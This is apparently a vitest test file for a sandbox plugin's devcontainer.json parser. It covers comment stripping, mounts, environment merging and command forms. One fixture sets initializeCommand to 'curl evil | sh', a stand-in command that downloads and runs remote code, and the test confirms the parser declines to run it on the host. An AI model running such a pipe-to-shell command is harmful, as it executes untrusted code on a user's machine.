/** devcontainer.json parsing: JSON with comments and trailing commas, and the subset's forms. */
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { readDevcontainer, stripJsonc } from '../../../plugins/sandbox/devcontainer.js'

/** devcontainer.json's variable syntax (not a template here). */
const WS = '$' + '{localWorkspaceFolder}'

describe('devcontainer.json', () => {
  it('reads JSON with comments and trailing commas, leaving strings that look like them alone', () => {
    const text = '{\n  // a comment\n  "a": "http://x/*y*/, }", /* block\n */ "b": [1, 2,],\n}\n'
    expect(JSON.parse(stripJsonc(text))).toEqual({ a: 'http://x/*y*/, }', b: [1, 2] })
    expect(JSON.parse(stripJsonc('{"q": "say \\"hi\\" // not a comment",}'))).toEqual({
      q: 'say "hi" // not a comment',
    })
  })

  it('takes mounts in string and object form, commands in each form, remoteEnv over containerEnv', () => {
    const dir = mkdtempSync(join(tmpdir(), 'tau-dc-'))
    const file = join(dir, 'devcontainer.json')
    writeFileSync(
      file,
      JSON.stringify({
        mounts: [
          `source=${WS}/cache,target=/cache,type=bind,readonly`,
          { source: '/opt/tools', target: '/tools', type: 'bind' },
        ],
        containerEnv: { A: 'c', B: 'c' },
        remoteEnv: { B: 'r', GONE: null },
        containerUser: 'node',
        postCreateCommand: { install: 'npm ci', argv: ['echo', 'a b'] },
        initializeCommand: 'curl evil | sh',
      }),
    )
    const dc = readDevcontainer(file, { workspace: '/work/p', projectDir: dir })
    expect(dc.mounts).toEqual([
      { source: '/work/p/cache', target: '/cache', readonly: true },
      { source: '/opt/tools', target: '/tools', readonly: false },
    ])
    expect(dc.containerEnv).toEqual({ A: 'c', B: 'r' })
    expect(dc.user).toBe('node')
    expect(dc.postCreateCommand).toEqual(['npm ci', ['echo', 'a b']])
    expect(dc.notes).toEqual(['devcontainer.json: initializeCommand: not run: it would run on the host'])
  })
})
